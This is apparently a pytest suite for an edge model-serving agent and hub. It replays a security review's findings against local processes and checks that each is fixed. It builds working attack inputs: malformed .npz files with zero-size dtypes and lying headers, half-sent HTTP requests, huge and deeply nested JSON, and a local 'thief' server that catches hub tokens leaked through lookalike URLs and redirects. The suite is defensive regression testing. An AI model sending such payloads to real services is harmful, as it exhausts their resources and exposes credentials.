"""The security review's attacks, replayed against real agent and hub processes on loopback.

Each test sends what the review sent and checks the fixed behaviour. Most use an agent started
with --open-reads, so that the attacks come from an anonymous client as they did then.
"""

from __future__ import annotations

import http.server
import io
import json
import socket
import struct
import threading
import time
import urllib.error
import urllib.request
import zipfile

import numpy as np
import pytest
from device_test_helpers import TOKEN, enroll, make_keys, package, start_agent, start_hub, trust, wait_for
from onnx import TensorProto, helper

from device_bridge.client import DeviceClient, HubClient
from device_bridge.errors import (
    DeviceAuthError,
    DeviceRequestError,
    InvalidInputError,
    RequestTooLargeError,
    VersionRefusedError,
)
from device_bridge.package import build_package

pytestmark = pytest.mark.timeout(120)


def float64_model() -> bytes:
    """y = v for a float64 column v [N, 1] (the review's telemetry attack needs a double input)."""
    graph = helper.make_graph(
        [helper.make_node("Identity", ["v"], ["y"])], "wide",
        [helper.make_tensor_value_info("v", TensorProto.DOUBLE, [None, 1])],
        [helper.make_tensor_value_info("y", TensorProto.DOUBLE, [None, 1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    return make_keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def open_agent(tmp_path_factory, keys):
    """An agent with --open-reads (anyone may predict and read), polling a hub."""
    tmp = tmp_path_factory.mktemp("sec")
    hub = start_hub(tmp)
    store = tmp / "store"
    trust(store, keys)
    enroll(hub.url, "open", store)
    a = start_agent(tmp, "open", store, ["--open-reads", "--hub", hub.url, "--hub-interval", "0.2",
                                         "--request-timeout", "1", "--body-timeout", "2"])
    c = DeviceClient(a.url, TOKEN)
    c.install(package(keys, 1))
    c.install(build_package(float64_model(), {"name": "wide", "version": 1, "providers": ["cpu"]},
                            keys.private_key))
    yield {"agent": a, "hub": hub, "c": c, "store": store, "tmp": tmp}
    a.kill()
    hub.kill()


def _raw(url, method, path, body=None, headers=None):
    req = urllib.request.Request(url + path, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def _rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def test_extreme_values_cannot_poison_telemetry_or_the_hub(open_agent):
    """Finding 1: 1.5, 1e308, -1e308 in a float64 column made /v1/metrics and the hub's /v1/agents
    answer 500 until restart, and killed the hub-sync thread ('math domain error')."""
    anon = DeviceClient(open_agent["agent"].url)
    for v in (1.5, 1e308, -1e308, 1e308, -1e308):
        assert anon.predict("wide", columns={"v": [v]})["outputs"]["y"] == [[v]]
    for vs in ([1e308] * 20, [-1e308] * 20, [1e308, -1e308] * 10):  # the batch (vectorized) path too
        anon.predict_batch("wide", {"v": np.array(vs).reshape(-1, 1)})
    m = anon.metrics()
    col = next(e for e in m["models"] if e["model"] == "wide")["columns"]["v"]
    assert col["count"] == 65 and col["max"] == 1e308 and col["min"] == -1e308
    assert all(x is None or np.isfinite(x) for x in (col["mean"], col["std"]))
    hc = HubClient(open_agent["hub"].url, TOKEN)
    t0 = time.time()

    def reported():
        tel = hc.agent("open").get("telemetry") or {}
        return any(e["model"] == "wide" and (e.get("columns") or {}).get("v", {}).get("count") == 65
                   for e in tel.get("models", []))
    wait_for(reported, what="the poisoned snapshot reaches the hub")
    assert hc.agents()  # the fleet view still answers
    bg = anon.info()["background"]["hubsync"]
    assert bg["last_ok"] > t0 and bg["errors"] == 0, bg


def _npy(descr: str, shape: tuple, data: bytes = b"") -> bytes:
    """An .npy member written by hand: numpy would not save a <U0 array in a few bytes, an attacker does."""
    hdr = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    hdr += b" " * (118 - len(hdr)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + data


def _npz(members: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(f"{name}.npy", data)
    return out.getvalue()


def test_zero_size_dtypes_and_lying_headers_are_refused_before_loading(open_agent):
    """Finding 2 and 11: a 460-byte .npz of dtype <U0 and shape (1, 10**8) blocked the event loop
    17.5 s and took 760 MB; a header claiming 745 GiB and corrupt compression gave 500s."""
    url, pid = open_agent["agent"].url, open_agent["agent"].p.pid
    rss0 = _rss_mb(pid)
    u0 = _npz({"x": _npy("<U0", (1, 10**8)), "city": _npy("<U1", (1, 1), "a".encode("utf-32-le"))})
    assert len(u0) < 1000
    # an .npy header that announces 100,000 x 1,000,000 float64 (745 GiB) over 8 bytes of data
    huge = _npz({"x": _npy("<f8", (100000, 1000000), b"\0" * 8), "city": _npy("<U1", (1, 1), b"a\0\0\0")})
    comp = io.BytesIO()
    rng = np.random.default_rng(0)
    np.savez_compressed(comp, x=rng.normal(size=(5000, 1)).astype(np.float32), city=np.array([["paris"]] * 5000))
    corrupt = bytearray(comp.getvalue())
    for i in range(2000, 2100):  # inside the first member's deflated data
        corrupt[i] ^= 0x5A
    cols_u0 = (b"MLC1" + struct.pack("<I", 80)
               + json.dumps({"columns": [{"name": "x", "dtype": "<U0", "shape": [100000, 10000]}]})
               .encode().ljust(80))
    for body, ctype, words in [(u0, "application/x-npz", "zero-size"), (huge, "application/x-npz", "over the limit"),
                               (bytes(corrupt), "application/x-npz", "not a readable"),
                               (cols_u0, "application/x-mlsql-columns", "zero-size")]:
        t0 = time.time()
        status, answer = _raw(url, "POST", "/v1/models/scorer/predict", body, {"Content-Type": ctype})
        assert status in (400, 413) and words in json.loads(answer)["error"], (status, answer)
        assert json.loads(answer)["kind"] == ("too_large" if status == 413 else "invalid_input")
        assert time.time() - t0 < 2.0
    assert _rss_mb(pid) < rss0 + 50


def test_half_sent_requests_are_dropped(open_agent):
    """Finding 3: 50 of 50 half-sent requests were still open after 122 s."""
    a = open_agent["agent"]
    port = a.info["devices"][0]["port"]
    socks = []
    for i in range(20):
        s = socket.create_connection(("127.0.0.1", port))
        if i % 3 == 0:
            s.sendall(b"POST /v1/models/scorer/predict HTTP/1.1\r\nHost: x\r\nContent-")  # half the headers
        elif i % 3 == 1:
            s.sendall(b"POST /v1/models/scorer/predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 1000\r\n\r\n{\"columns\"")  # half the body
        socks.append(s)  # i % 3 == 2: nothing at all
    t0 = time.time()
    for s in socks:
        s.settimeout(10)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        assert not data or b"408" in data.split(b"\r\n")[0], data[:200]
    assert time.time() - t0 < 8  # 1 s request timeout, 2 s body timeout
    assert DeviceClient(a.url, TOKEN).health()["ok"]


class _Thief(http.server.BaseHTTPRequestHandler):
    seen: list = []
    redirect_to: str | None = None

    def do_GET(self):  # noqa: N802 - http.server's name
        type(self).seen.append((self.path, self.headers.get("Authorization")))
        if self.path.startswith("/redirect") and type(self).redirect_to:
            self.send_response(302)
            self.send_header("Location", type(self).redirect_to)
            self.end_headers()
            return
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"not a package")

    def log_message(self, *args):
        pass


def test_hub_token_goes_only_to_the_hub_origin_and_never_through_redirects(tmp_path, keys):
    """Finding 4: install-from-URL sent the hub token to any URL that merely started with the hub's
    (http://127.0.0.1:4001 vs http://127.0.0.1:40011/steal) and urllib forwarded it on redirects."""
    thief = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Thief)
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Thief)
    for srv in (thief, other):
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    tport = thief.server_address[1]
    _Thief.redirect_to = f"http://127.0.0.1:{other.server_address[1]}/landed"
    hub_prefix = f"http://127.0.0.1:{str(tport)[:-1]}"  # the thief's URL starts with this "hub" URL
    store = tmp_path / "s"
    trust(store, keys)
    a = start_agent(tmp_path, "victim", store, ["--hub", hub_prefix, "--hub-token", "HUB-SECRET",
                                                "--hub-interval", "30"])
    try:
        c = DeviceClient(a.url, TOKEN)
        for path in ("/steal", "/redirect"):
            with pytest.raises(DeviceRequestError) as e:  # DeviceRequestError: download failed
                c.install_from_url("scorer", f"http://127.0.0.1:{tport}{path}")
            assert e.value.kind in ("download", "package"), e.value
        with pytest.raises(DeviceRequestError, match="redirect"):
            c.install_from_url("scorer", f"http://127.0.0.1:{tport}/redirect", token="caller-token")
        assert [h for _, h in _Thief.seen if h and "HUB-SECRET" in h] == []
        assert not [p for p, _ in _Thief.seen if p == "/landed"]  # no redirect followed, with or without token
    finally:
        a.kill()
        thief.shutdown()
        other.shutdown()


def test_json_bodies_are_bounded_before_parsing(open_agent):
    """Finding 5: a 63 MB {"rows": [{}, {}, ...]} took the agent to 1.7 GB (three at once 6.7 GB)."""
    a = open_agent["agent"]
    rss0 = _rss_mb(a.p.pid)
    port = a.info["devices"][0]["port"]
    with socket.create_connection(("127.0.0.1", port)) as s:  # 63 MB announced: refused before any byte
        s.sendall(b"POST /v1/models/scorer/predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 66060288\r\n\r\n" + b'{"rows": [' + b"{}," * 1000)
        s.settimeout(5)
        head = b""
        while b'"kind"' not in head:
            chunk = s.recv(4096)
            if not chunk:
                break
            head += chunk
    assert head.startswith(b"HTTP/1.1 413") and b'"kind":"too_large"' in head, head
    under = b'{"rows": [' + b"{}," * (4 * 1024 * 1024) + b"{}]}"  # 12 MB: under the JSON limit
    results = []
    threads = [threading.Thread(target=lambda: results.append(
        _raw(a.url, "POST", "/v1/models/scorer/predict", under, {"Content-Type": "application/json"})))
        for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert [s for s, _ in results] == [413] * 3, results[0][1][:200]
    assert all("objects/arrays" in json.loads(b)["error"] for _, b in results)
    assert _rss_mb(a.p.pid) < rss0 + 150
    with pytest.raises(RequestTooLargeError):
        DeviceClient(a.url).predict("scorer", rows=[{"x": 1.0, "city": "a"}] * 100_001)


def test_reads_need_the_token_by_default_and_string_values_never_leave(tmp_path, keys):
    """Finding 7: /v1/metrics showed raw string values and /v1/info platform, keys and hub to anyone."""
    store = tmp_path / "s"
    trust(store, keys)
    a = start_agent(tmp_path, "closed", store)
    try:
        c = DeviceClient(a.url, TOKEN)
        c.install(package(keys, 1))
        for method, path, body in [("GET", "/v1/info", None), ("GET", "/v1/metrics", None),
                                   ("GET", "/v1/metrics/stream?count=1", None), ("GET", "/v1/events", None),
                                   ("GET", "/v1/models/scorer", None),
                                   ("POST", "/v1/models/scorer/predict", b'{"columns": {"x": [1], "city": ["a"]}}')]:
            status, answer = _raw(a.url, method, path, body, {"Content-Type": "application/json"})
            assert status == 401 and json.loads(answer)["kind"] == "auth", (path, status)
        assert _raw(a.url, "GET", "/v1/health")[0] == 200
        with pytest.raises(DeviceAuthError):
            DeviceClient(a.url).metrics()
        c.predict("scorer", columns={"x": [1.0] * 3, "city": ["paris", "card-4111-1111", "card-4111-1111"]})
        c.predict("scorer", columns={"x": [1.0], "city": ["card-4111-1111"]})
        text = json.dumps(c.metrics())
        assert "card-4111" not in text and "paris" in text  # 'paris' is a training value of the manifest
        city = c.metrics()["models"][0]["columns"]["city"]
        assert city["unseen_rate"] == pytest.approx(0.75) and {"hash", "count"} <= set(city["top"][0])
        assert "card-4111" not in "".join(json.dumps(s) for s in c.stream(interval=0.25, count=1))
    finally:
        a.kill()


def test_a_damaged_state_file_deletes_nothing(tmp_path, keys):
    """Finding 8: a truncated state.json made start-up delete every installed version."""
    store = tmp_path / "s"
    trust(store, keys)
    a = start_agent(tmp_path, "dmg", store)
    c = DeviceClient(a.url, TOKEN)
    c.install(package(keys, 1))
    v2 = package(keys, 2, mult=5.0)
    c.install(v2)
    a.kill()
    (store / "models" / "scorer" / "7").mkdir()  # a folder nobody can vouch for
    (store / "models" / "scorer" / "7" / "model.onnx").write_bytes(b"junk")
    state = store / "state.json"
    state.write_bytes(state.read_bytes()[:40])
    a = start_agent(tmp_path, "dmg", store)
    try:
        c = DeviceClient(a.url, TOKEN)
        info = c.info()
        m = info["models"]["scorer"]
        assert m["versions"] == [1, 2] and m["active"] == 2
        assert info["state"]["rebuilt"] and any(u.startswith("scorer/7") for u in info["state"]["unaccounted"])
        assert (store / "models" / "scorer" / "7" / "model.onnx").exists()  # kept, not deleted
        assert c.predict("scorer", columns={"x": [1.0], "city": ["x"]})["outputs"]["y"] == [[5.0]]
        assert any(p.name.startswith("state.json.damaged-") for p in store.iterdir())
        assert c.rollback("scorer")["active"] == 1
        assert c.install(v2, activate=False)["installed"] is False  # the same package: recognised, no 409
        assert len(c.info()["models"]["scorer"]["sha256"]["2"]) == 64  # and its digest learnt again
    finally:
        a.kill()


def test_older_versions_are_not_installed_or_reactivated_by_a_package(tmp_path, keys):
    """Finding 9: re-sending an older signed version re-activated it. Policy: a package never moves
    a model back; rollback and activate (token holder, or the hub's restore) do."""
    store = tmp_path / "s"
    trust(store, keys)
    a = start_agent(tmp_path, "ar", store, ["--keep-versions", "2"])
    try:
        c = DeviceClient(a.url, TOKEN)
        built = {v: package(keys, v, mult=float(v)) for v in (1, 2, 3)}  # built once: created_at is signed
        for v in (1, 2, 3):
            c.install(built[v])
        assert c.info()["models"]["scorer"]["versions"] == [2, 3]
        with pytest.raises(VersionRefusedError, match="older"):
            c.install(built[2])  # installed, older than the active one
        with pytest.raises(VersionRefusedError, match="anti-rollback") as e:
            c.install(package(keys, 1, mult=1.0))  # pruned: not installed again
        assert e.value.kind == "version" and e.value.status == 409
        assert c.info()["models"]["scorer"]["active"] == 3
        assert c.rollback("scorer")["active"] == 2 and c.activate("scorer", 3)["active"] == 3
    finally:
        a.kill()


def test_a_package_cannot_ship_its_own_placement(tmp_path, keys):
    """Finding 10: a signed package's providers.json overwrote the agent's placement report."""
    store = tmp_path / "s"
    trust(store, keys)
    a = start_agent(tmp_path, "pl", store)
    try:
        from device_test_helpers import scorer_model

        fake = json.dumps({"providers": ["CPUExecutionProvider"],
                           "node_providers": {"NnapiExecutionProvider": 99}}).encode()
        pkg = build_package(scorer_model(), {"name": "scorer", "version": 1, "providers": ["cpu"]},
                            keys.private_key, extra_files={"providers.json": fake})
        c = DeviceClient(a.url, TOKEN)
        assert set(c.install(pkg)["node_providers"]) == {"CPUExecutionProvider"}
    finally:
        a.kill()
    a = start_agent(tmp_path, "pl", store)  # and after a restart (the cached placement is the agent's)
    try:
        assert set(DeviceClient(a.url, TOKEN).info()["models"]["scorer"]["node_providers"]) == {"CPUExecutionProvider"}
    finally:
        a.kill()


def test_former_500s_are_4xx_with_a_message(open_agent):
    """Findings 11 and 12: 10**400 as a float, a nested columns header, a list as the hub's group,
    and 1e300 for a float32 column (which became inf)."""
    url = open_agent["agent"].url
    nested = b"[" * 100_000 + b"]" * 100_000
    cases = [(b'{"columns": {"x": [1' + b"0" * 400 + b'], "city": ["a"]}}', "application/json", "out of range"),
             (b'{"columns": {"x": [1e400], "city": ["a"]}}', "application/json", "out of range"),
             (b'{"columns": {"x": [1e300], "city": ["a"]}}', "application/json", "out of range for float32"),
             (b"MLC1" + struct.pack("<I", len(nested)) + nested, "application/x-mlsql-columns", "nested")]
    for body, ctype, words in cases:
        status, answer = _raw(url, "POST", "/v1/models/scorer/predict", body, {"Content-Type": ctype})
        assert status == 400 and words in json.loads(answer)["error"], (body[:60], status, answer[:300])
    arr = {"x": np.array([[1e300]]), "city": np.array([["a"]])}
    for fmt in ("columns", "npz"):
        with pytest.raises(InvalidInputError, match="out of range for float32"):
            open_agent["c"].predict_batch("scorer", arr, fmt=fmt)
    hub = open_agent["hub"].url
    for body in (b'{"model": "scorer", "sha256": "' + b"0" * 64 + b'", "group": ["a"]}',
                 b'{"model": "scorer", "absent": true, "devices": "x"}', b'{"devices": [1]}'):
        status, answer = _raw(hub, "POST", "/v1/desired" if b"model" in body else "/v1/groups/g", body,
                              {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"})
        assert status == 400 and json.loads(answer)["kind"] == "request", (body, status, answer)


def test_metric_streams_are_capped(open_agent):
    """Finding 14: 60 anonymous streams at 0.05 s made predictions 2.5x slower."""
    port = open_agent["agent"].info["devices"][0]["port"]
    socks = []
    for _ in range(8):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"GET /v1/metrics/stream?interval=0.01 HTTP/1.1\r\nHost: x\r\n\r\n")
        s.settimeout(5)
        assert b"200" in s.recv(200).split(b"\r\n")[0]
        socks.append(s)
    status, answer = _raw(open_agent["agent"].url, "GET", "/v1/metrics/stream?count=1")
    assert status == 503 and json.loads(answer)["kind"] == "busy"
    t0 = time.time()
    got = b""
    while time.time() - t0 < 1.0:  # interval 0.01 is raised to 0.25 s: a handful of events, not 100
        try:
            got += socks[0].recv(1 << 20)
        except TimeoutError:
            break
    assert got.count(b"event: metrics") <= 6
    for s in socks:
        s.close()
    wait_for(lambda: _raw(open_agent["agent"].url, "GET", "/v1/metrics/stream?count=1")[0] == 200,
             what="stream slots freed")
